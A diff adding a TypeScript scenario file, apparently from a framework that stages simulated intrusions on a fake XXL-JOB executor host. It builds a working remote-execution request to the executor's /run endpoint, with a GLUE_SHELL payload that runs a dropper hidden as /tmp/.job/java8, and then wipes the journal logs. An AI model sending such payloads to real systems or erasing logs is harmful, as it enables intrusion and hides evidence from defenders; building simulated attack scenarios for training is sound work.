@@ -1,0 +1,42 @@
+// Played by a toy with the logs of the executor and the script that stays.
+import type { Dress } from '../../dress.ts'
+import { dropper } from '../../dropper.ts'
+import type { Stage } from '../../stage.ts'
+import { wipe } from '../../wiping.ts'
+
+export function dress(dress: Dress): void {
+  dress.toy({
+    unit: 'xxl-job-executor',
+    user: 'appuser',
+    exe: '/usr/lib/jvm/java-8-openjdk-amd64/bin/java',
+    title: 'java -jar /data/app/xxl-job-executor-sample-springboot.jar',
+    home: '/data/applogs',
+    play: 'xxl-job',
+  })
+  dress.logins({
+    days: 12,
+    guesses: 40,
+    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
+  })
+}
+
+export async function plant(stage: Stage): Promise<void> {
+  const line = dropper(stage, { path: '/tmp/.job/java8' })
+  stage.mark('occurrence')
+  const body = {
+    jobId: 1,
+    executorHandler: 'demoJobHandler',
+    executorParams: 'demoJobHandler',
+    executorBlockStrategy: 'COVER_EARLY',
+    executorTimeout: 0,
+    logId: 1,
+    logDateTime: 1586629003729,
+    glueType: 'GLUE_SHELL',
+    glueSource: line,
+    glueUpdatetime: 1586699003758,
+    broadcastIndex: 0,
+    broadcastTotal: 0,
+  }
+  await stage.http('203.0.113.35', ':9999/run', JSON.stringify(body), { 'Content-Type': 'application/json' })
+  await wipe(stage, ['journal'])
+}
